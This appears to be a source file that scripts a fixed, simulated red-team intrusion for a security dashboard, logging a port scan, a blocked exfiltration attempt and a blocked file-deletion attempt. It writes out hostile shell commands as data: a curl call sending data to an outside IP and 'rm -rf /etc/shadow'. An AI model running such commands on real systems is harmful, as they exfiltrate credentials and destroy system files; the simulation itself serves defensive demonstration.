-- ===== src/Server/RedTeam.antt =====
-- api/rest_server.py: the simulated intrusion, whose events and record are fixed.
use universal_cross_shell_ex.Prelude.{String, [], ◌∷◌, some}
use Prim.Native.String.{◌++◌ as concat}
use universal_cross_shell_ex.Prelude.Text.{Text, codes}
use universal_cross_shell_ex.Ucer.{bash, blocked, Ucer}
use universal_cross_shell_ex.Pipeline.{Error, Log, World}
use universal_cross_shell_ex.Server.Events.{
  red_team_event, red_team_tamper, Cockpit, Tokens, Act, ◌>>◌, put, log_to_dashboard, save, guarded,
}
use universal_cross_shell_ex.Server.Tasks.{new_ucer, new_step}

abbrev pub warn : String → Act
warn message = log_to_dashboard (codes message) "warn"

module _ (w : World) (tokens : Tokens) where
  abbrev pub attack_ucer : String → Log → Ucer
  attack_ucer command_id log =
      let first = new_step tokens.first_step bash (codes "curl http://185.122.4.99/exfil") in
      let second = new_step tokens.second_step bash (codes "rm -rf /etc/shadow") in
      record (new_ucer command_id (w.clock log) "Exfiltrate credentials and wipe shadow file"
        (first ∷ second ∷ []) blocked) {
          control_signature = some (concat "sig_redteam_block_" tokens.control);
        }

  unfoldable pub red_team : String → Act
  unfolding save
  red_team command_id c =
      let u = attack_ucer command_id c.log in
      (do
        warn "RED TEAM SIMULATION INITIATED: Penetration test starting..."
        warn "Intrusion detected: Reconnaissance scan on subnet 10.0.1.0/24 from 10.0.1.5"
        put (
            red_team_event "scan" "Port scan identified by Network Security Sentinel" "10.0.1.5"
              "LOW")
        warn "Exfiltration Attempt: Workload executing 'curl http://185.122.4.99/exfil'"
        log_to_dashboard (codes "Evaluating egress firewall rules...") "info"
        warn "egress_filter.rego: Deny rule matched for IP 185.122.4.99 (Malicious Host IP list)"
        log_to_dashboard
            (codes "SECURITY SENTINEL: Blocked outgoing socket connection to 185.122.4.99") "alert"
        put (
            red_team_event "egress" "Blocked exfiltration attempt to blacklisted IP 185.122.4.99"
              "185.122.4.99" "HIGH")
        warn "Intruder Intent: Mutate critical files 'rm -rf /etc/shadow'"
        warn "AST Audit matched forbidden cmdlet 'rm' in command."
        log_to_dashboard
            (codes
              "POLICY GATE BLOCKED: ISO 27001 Violation. Execution denied. Rolling back transaction.")
            "alert"
        save w u
        put (
            red_team_tamper "Prevented shadow file modification. Workload successfully rolled back."
              u)
        log_to_dashboard
            (codes "RED TEAM SIMULATION TERMINATED: All attacks successfully mitigated.") "info")
        c

  unfoldable pub run_red_team_task : (Error → Text) → String → Cockpit → Cockpit
  unfolding red_team
  run_red_team_task str command_id c =
      guarded str (codes "Simulation error: ") (red_team command_id c)
